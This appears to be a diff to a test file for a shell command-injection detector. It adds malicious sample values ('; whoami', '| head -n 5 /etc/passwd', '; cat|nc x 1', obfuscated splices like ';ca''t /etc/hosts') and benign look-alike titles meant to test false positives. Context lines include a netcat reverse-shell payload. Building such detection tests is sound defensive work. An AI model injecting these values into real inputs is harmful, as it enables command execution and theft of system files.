@@ -99,7 +99,12 @@ CASES: tuple[Case, ...] = (
          ";irb<<<1+2", ";gcc10.1<<<'void main(){}'", "alias ls-al='ls -al'", "alias -p jzfrx=id", "; unalias -a",
          ";\\n.shell nc 10.0.0.1 6666 -e sh", ";vim -c:\\!pwd", "uname$u -a", "{n$u\\c$u,-nlvp,777}",
          # Admin CLIs after a separator; a backslash in front of a command word.
-         "&aptitude", '{";aptitude":"foo"}', "x\nid", "x&whoami"),
+         "&aptitude", '{";aptitude":"foo"}', "x\nid", "x&whoami",
+         # English-word commands glued to the separator, after "&&" / "$(", or with an argument
+         # shape after a spaced separator (mixed case too); recon tools ending the value.
+         ";set", "|set", ";Set", "|SeT", ";set in stone", "&& set", "$(set)", "; cat|nc x 1", "| sleep 5",
+         "| sLeEp 5", ";ls -la", "; whoami", "| hEaD -n 5 /etc/passwd", "; ping -c 3 127.0.0.1",
+         "x | tail -n 1 /var/log/auth.log", "; echo $PATH", "| more /etc/hosts", "; kill -9 1"),
         ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
          "python 3.10 release notes", "cd music; then play", "Thanks; Bob --sent from my phone",
          "Options; see --help for more", "I like apples; pears -- not so much", "| Use --force | yes |",
@@ -114,15 +119,26 @@ CASES: tuple[Case, ...] = (
          "console.log(`${a} and ${b}`)", "key='value'; other='thing'", "a=1;b=2;c=3",
          "lunch;at noon", "R&D;top priority", "sizes: S;M;L;XL", "expression 7 * 7 = 49",
          "| ps aux | list processes |", "Sure; I''d love to", "ok; can''t make it", "R & D",
-         "user id & password", "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "perl's regex; python's re"),
+         "user id & password", "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "perl's regex; python's re",
+         # Titles and sentences: a spaced "|" or ";" then an English word that is also a command
+         # name, ending the value or followed by prose.
+         "Knife | Set", "Chef's Knife | Set", "; set in stone", "Tea | Time", "Pros; More", "Books; Less",
+         "Salt | Pepper | Sort", "Notes | Last", "Guests | Who", "Pets | Find", "Shoes | Head",
+         "Bar | Tail", "Paper | Cut", "Bedtime | Touch", "Gifts | Kill", "Tips; Sleep", "Data | Source",
+         "Import | Export", "Drinks | Eval", "Team | Exec", "Sound | Echo", "Animals | Cat",
+         "Hiking | Mount", "Gloves | Finger", "Old vs new | Diff", "News | Column", "Flag | Tr",
+         "Units | Od", "Dinner | ll", "Wheel | Rev", "Park | Host", "Size | W", "Pros; More; Less",
+         "Tea | Time | Table", "Snakes | Python", "Top | Watch", "Music | CD", "Gadgets | Zip"),
     ),
     Case(
         "UNIXCommandSplicing",
         (";wh''oami", "|c\\at /etc/hosts", '&& ne""tstat -an', "0;pi\\ng -c 3 127.0.0.1",
          "$(pyt\\hon -c 'x')",
-         "; w'h'o'am'i", ";ca''t /etc/hosts", "|u\\name -a"),
+         "; w'h'o'am'i", ";ca''t /etc/hosts", "|u\\name -a", "|c\\at", "; he''ad -n 1 /etc/passwd"),
         ("Sure; I''d love to", "ok; can''t make it", "perl's regex; python's re", "x; cat's toy",
-         "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "a;b\\c"),
+         "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "a;b\\c",
+         "Pros; More", "Books; Less", "Shoes | Head", "Bar | Tail", "Tips; Sleep", "Sound | Echo",
+         "Animals | Cat"),
     ),
     Case(
         "UNIXShellCommandsUnquoted",
